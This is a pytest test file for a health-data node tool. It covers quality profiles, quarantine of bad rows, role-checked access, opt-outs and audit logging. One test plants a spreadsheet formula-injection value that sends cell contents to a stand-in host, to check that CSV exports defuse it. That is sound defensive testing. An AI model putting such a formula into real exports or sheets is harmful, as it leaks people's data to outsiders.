"""``quality`` and ``quarantine``: what people of the node see of a load, and that nobody else sees any of it."""

import csv
import datetime
import io
import json

import pytest

from tests.functional.test_node_command import TODAY, Desk
from tests.nodes import nhs_numbers


def desk_with_loads(tmp_path):
    """Return a node with two loads: of the second, half of the wards are missing."""
    desk = Desk(tmp_path)
    desk.init("--policy", "floors.toml")
    desk.load(60)
    text = (desk.place / "visits.csv").read_text()
    (desk.place / "visits.csv").write_text(text.replace(",0,W", ",0,"))
    desk.run("ingest", "visits.toml", "visits.csv")
    return desk


def test_a_load_is_shown_with_its_history_and_what_changed(tmp_path):
    desk = desk_with_loads(tmp_path)
    told = desk.run("quality", "show", "visits@1")
    assert "120 rows of 60 people" in told.out
    assert "never leave" in told.err
    shown = json.loads(desk.run("quality", "show", "visits", "--json").out)
    assert (shown["version"], shown["rows"]) == ("visits@2", 120)
    ward = next(c for c in shown["columns"] if c["name"] == "ward")
    assert ward["complete"] == 0.5

    history = json.loads(desk.run("quality", "history", "visits", "--json").out)
    assert [(line["version"], line["least_complete"], line["in"]) for line in history] == [
        ("visits@1", 1.0, "nhs_number"),
        ("visits@2", 0.5, "ward"),
    ]
    assert "visits@2" in desk.run("quality", "history", "visits").out
    drift = json.loads(desk.run("quality", "drift", "visits", "--json").out)
    assert [c["column"] for c in drift["columns"] if c["warnings"]] == ["ward"]
    assert "less complete" in desk.run("quality", "drift", "visits@2", "--against", "visits@1").out
    assert desk.code("quality", "drift", "visits@1", status=3) == "version-alone"
    assert desk.code("quality", "show", "births", status=5) == "data-set-unknown"

    desk.run("quality", "show", "visits", "--html", "visits.html")
    assert "less complete" in (desk.place / "visits.html").read_text()
    assert (desk.place / "visits.html").stat().st_mode & 0o077 == 0
    assert desk.code("quality", "show", "visits", "--html", desk.home / "visits.html", status=5) == "out-inside-home"
    assert desk.code("quality", "show", "visits", "--html", "visits.html", status=4) == "file-unwritable"
    desk.run("audit", "verify")


def desk_with_bad_rows(tmp_path):
    """Return a node whose load set four rows aside: two with an age too high, one with no sex, one of nobody."""
    desk = Desk(tmp_path)
    desk.init("--policy", "floors.toml", people=("ada=ig-lead", "ben=caldicott-guardian", "dee=data-engineer"))
    desk.load(60)
    lines = (desk.place / "visits.csv").read_text().splitlines()
    numbers = nhs_numbers(60)
    lines += [f"{numbers[0]},L0,3,500,1,NORTHWARD", f"{numbers[1]},L1,3,999,1,SOUTHWARD"]
    lines += [f"{numbers[2]},L2,3,40,,EASTWARD", f"{numbers[3][:-1]},L3,3,40,1,WESTWARD"]
    (desk.place / "visits.csv").write_text("\n".join(lines))
    desk.run("ingest", "visits.toml", "visits.csv")
    return desk


def by(name):
    return ("--as", name, "--key", f"keys/{name}.key", "--purpose", "ticket 812")


def test_rows_that_were_set_aside_are_counted_for_anybody_and_shown_only_with_the_right(tmp_path):
    desk = desk_with_bad_rows(tmp_path)
    listed = desk.run("quarantine", "list", "visits", "--json").out
    assert [(w["reason"], w["column"], w["rows"], w["first_line"]) for w in json.loads(listed)["waiting"]] == [
        ("value-out-of-bounds", "age", 2, 122),
        ("nhs-number-malformed", "nhs_number", 1, 125),
        ("value-missing", "sex", 1, 124),
    ]
    told = desk.run("quarantine", "list", "visits@2")
    assert not [word for word in ("500", "999", "WARD") if word in listed + told.out + told.err]
    assert "no row was set aside" in desk.run("quarantine", "list", "visits@1").out

    out = ("--out", "rows.csv")
    assert desk.code("quarantine", "show", "visits", *by("ben"), *out, status=5) == "role-not-allowed"
    stolen = ("--as", "dee", "--key", "keys/ben.key", "--purpose", "none")
    assert desk.code("quarantine", "show", "visits", *stolen, *out, status=5) == "person-key-wrong"
    inside = ("--out", desk.home / "rows.csv")
    assert desk.code("quarantine", "show", "visits", *by("dee"), *inside, status=5) == "out-inside-home"
    assert not (desk.place / "rows.csv").exists()
    visits = lambda: [e for e in json.loads(desk.run("audit", "show", "--json").out) if e["event"] == "inside"]  # noqa: E731
    assert visits() == []

    shown = desk.run("quarantine", "show", "visits", *by("dee"), *out)
    assert "4 rows" in shown.out
    assert "WARD" not in shown.out + shown.err
    assert (desk.place / "rows.csv").stat().st_mode & 0o077 == 0
    rows = list(csv.DictReader((desk.place / "rows.csv").read_text().splitlines()))
    assert [(r["line"], r["reasons"], r["nhs_number"], r["age"], r["ward"]) for r in rows] == [
        ("122", "value-out-of-bounds in age", "", "500", "NORTHWARD"),
        ("123", "value-out-of-bounds in age", "", "999", "SOUTHWARD"),
        ("124", "value-missing in sex", "", "40", "EASTWARD"),
        ("125", "nhs-number-malformed in nhs_number", "", "", ""),
    ]
    (leaf,) = visits()
    assert (leaf["facts"]["person"], leaf["facts"]["data"]) == ("dee", "visits@2")
    assert (leaf["facts"]["action"], leaf["facts"]["purpose"]) == ("quarantine", "ticket 812")
    assert desk.code("quarantine", "show", "visits", *by("dee"), *out, status=4) == "file-unwritable"


def test_rows_of_people_who_have_opted_out_since_are_not_shown(tmp_path):
    desk = desk_with_bad_rows(tmp_path)
    (desk.place / "fewer.txt").write_text("\n".join(nhs_numbers(60)[1:]))
    desk.run("optout", "load", "fewer.txt", "--as-of", TODAY.isoformat())
    desk.run("quarantine", "show", "visits", *by("ada"), "--out", "rows.csv")
    said = (desk.place / "rows.csv").read_text()
    assert "NORTHWARD" not in said
    assert "SOUTHWARD" in said


def test_a_formula_in_a_row_that_was_set_aside_is_no_formula_to_a_spreadsheet_and_comes_back_as_it_was(tmp_path):
    desk = desk_with_bad_rows(tmp_path)
    formula = '=HYPERLINK("https://x.example/?"&A1)'
    text = (desk.place / "visits.csv").read_text()
    (desk.place / "visits.csv").write_text(text.replace("NORTHWARD", '"' + formula.replace('"', '""') + '"'))
    desk.run("ingest", "visits.toml", "visits.csv")
    mended(desk, {"123": {"line": ""}, "124": {"line": ""}, "125": {"line": ""}})
    rows = list(csv.DictReader((desk.place / "rows.csv").read_text().splitlines()))
    assert rows[0]["ward"] == f"'{formula}"
    desk.run("quarantine", "replay", "visits@3", "fixed.csv")
    store = desk.node().store
    assert formula in store.read(store.latest("visits"), ["ward"])["ward"].to_pylist()


def test_nothing_of_a_profile_or_a_quarantine_is_in_a_log_a_metric_or_the_state(tmp_path):
    desk = desk_with_bad_rows(tmp_path)
    desk.run("quality", "show", "visits", "--html", "visits.html")
    desk.run("quarantine", "list", "visits")
    desk.run("quarantine", "show", "visits", *by("dee"), "--out", "rows.csv")
    page = (desk.place / "visits.html").read_text()
    assert "nhs-number-malformed" in page  # a control: it is said where it should be
    words = [b"NORTHWARD", b"value-out-of-bounds", b"rows_a_person", b"hedgerow-profile"]
    files = [path for path in desk.home.rglob("*") if path.is_file()]
    assert [(path.name, word) for path in files for word in words if word in path.read_bytes()] == []
    log = desk.run("audit", "show", "--json").out
    assert not [word for word in words if word.decode() in log]


def mended(desk, *changes):
    """Write the rows that were shown, with numbers of people filled in, and whatever a test changes by line."""
    desk.run("quarantine", "show", "visits", *by("dee"), "--out", "rows.csv")
    rows = list(csv.DictReader((desk.place / "rows.csv").read_text().splitlines()))
    numbers = dict(zip(("122", "123", "124", "125"), nhs_numbers(60), strict=False))
    for row in rows:
        row.update(nhs_number=numbers[row["line"]], local_id="L")
    right = {"122": {"age": "50"}, "123": {"age": "99"}, "124": {"sex": "1"}}
    right |= {"125": {"year": "3", "age": "40", "sex": "1", "ward": "WESTWARD"}}
    for each in (right, *changes):
        rows = [{**row, **each.get(row["line"], {})} for row in rows]
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]))
    writer.writeheader()
    writer.writerows(row for row in rows if row["line"])
    (desk.place / "fixed.csv").write_text(text.getvalue())


@pytest.mark.parametrize("shards", [1, 7, 200])
def test_mended_rows_are_judged_again_and_become_the_next_version_with_the_good_ones(tmp_path, monkeypatch, shards):
    monkeypatch.setattr("node.quality.replay.shards_for", lambda rows: shards)
    desk = desk_with_bad_rows(tmp_path)
    before = desk.node().store
    first = before.read_whole(before.latest("visits"), "records")
    mended(desk, {"123": {"line": ""}})  # one row is taken out: it cannot be mended
    done = json.loads(desk.run("quarantine", "replay", "visits@2", "fixed.csv", "--json").out)
    assert done == {"data_set": "visits@3", "rows_repaired": 3, "rows_waiting": 1}
    store = desk.node().store
    after = store.read_whole(store.latest("visits"), "records").to_pandas()
    assert len(after) == first.num_rows + 3
    assert sorted(after.loc[after["year"] == 3, "age"]) == [40, 40, 50]
    assert after.loc[after["year"] == 3, "ward"].tolist().count("WESTWARD") == 1
    assert after["person"].is_monotonic_increasing
    assert after.groupby("person", observed=True)["year"].is_monotonic_increasing.all()
    assert after.groupby("person", observed=True)["held_back"].nunique().eq(1).all()
    old = first.to_pandas().merge(after, how="left", indicator=True)
    assert (old["_merge"] == "both").all()
    waits = json.loads(desk.run("quarantine", "list", "visits", "--json").out)["waiting"]
    assert [(w["reason"], w["rows"], w["first_line"]) for w in waits] == [("value-out-of-bounds", 1, 123)]
    assert json.loads(desk.run("quality", "show", "visits", "--json").out)["rows"] == first.num_rows + 3
    desk.run("audit", "verify")
    assert desk.code("quarantine", "replay", "visits@2", "fixed.csv", status=5) == "replay-not-newest"


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"122": {"age": "300"}}, "replay-rows-bad"),
        ({"122": {"year": "1"}}, "replay-rows-bad"),  # of a year that is loaded already
        ({"122": {"year": "3"}, "123": {"nhs_number": nhs_numbers(60)[1], "sex": "7"}}, "replay-rows-bad"),
        ({"122": {"nhs_number": nhs_numbers(60)[1]}}, "replay-person-differs"),
        ({"122": {"line": "9"}}, "replay-line-unknown"),
        ({"122": {"line": "123"}}, "replay-line-unknown"),
        ({"122": {"line": "one hundred"}}, "replay-line-unknown"),
    ],
)
def test_one_row_that_is_not_good_refuses_them_all_and_changes_nothing(tmp_path, change, code):
    desk = desk_with_bad_rows(tmp_path)
    mended(desk, change)
    before = [version.row() for version in desk.node().store.all()]
    refused = desk.run("quarantine", "replay", "visits", "fixed.csv", "--json", status=3)
    assert json.loads(refused.err.splitlines()[-1])["code"] == code
    assert not [n for n in nhs_numbers(60) if n in refused.err]
    assert [version.row() for version in desk.node().store.all()] == before
    assert len(list((desk.home / "store").glob("*.parquet"))) == 5  # two loads and the list of opt-outs


def test_whoever_opted_out_meanwhile_is_in_neither_the_rows_nor_the_quarantine_of_a_replay(tmp_path):
    desk = desk_with_bad_rows(tmp_path)
    mended(desk)
    (desk.place / "fewer.txt").write_text("\n".join(nhs_numbers(60)[2:]))
    desk.run("optout", "load", "fewer.txt", "--as-of", TODAY.isoformat())
    done = json.loads(desk.run("quarantine", "replay", "visits", "fixed.csv", "--json").out)
    assert (done["rows_repaired"], done["rows_waiting"]) == (2, 0)
    store = desk.node().store
    assert len(set(store.read(store.latest("visits"), [])["person"].to_pylist())) == 58


def test_whose_role_is_refused_is_told_which_roles_may(tmp_path):
    desk = desk_with_bad_rows(tmp_path)
    refused = desk.run("quarantine", "show", "visits", *by("ben"), "--out", "rows.csv", status=5)
    assert "ben is caldicott-guardian; allowed: data-engineer, ig-lead" in refused.err
    assert "hedgerow-node policy show" in refused.err


def test_a_list_that_lets_nobody_be_used_or_brings_objections_back_says_so(tmp_path):
    desk = Desk(tmp_path)
    desk.init("--policy", "floors.toml")
    (desk.place / "allowed.txt").write_text("\n".join(nhs_numbers(2)))
    old = desk.run("optout", "load", "allowed.txt", "--as-of", TODAY - datetime.timedelta(20))
    assert "20 days old" in old.err
    assert "Type 1" in old.err
    both = desk.run("optout", "load", "allowed.txt", "--as-of", TODAY, "--type-1", "allowed.txt")
    assert "days old" not in both.err
    assert "Type 1" not in both.err
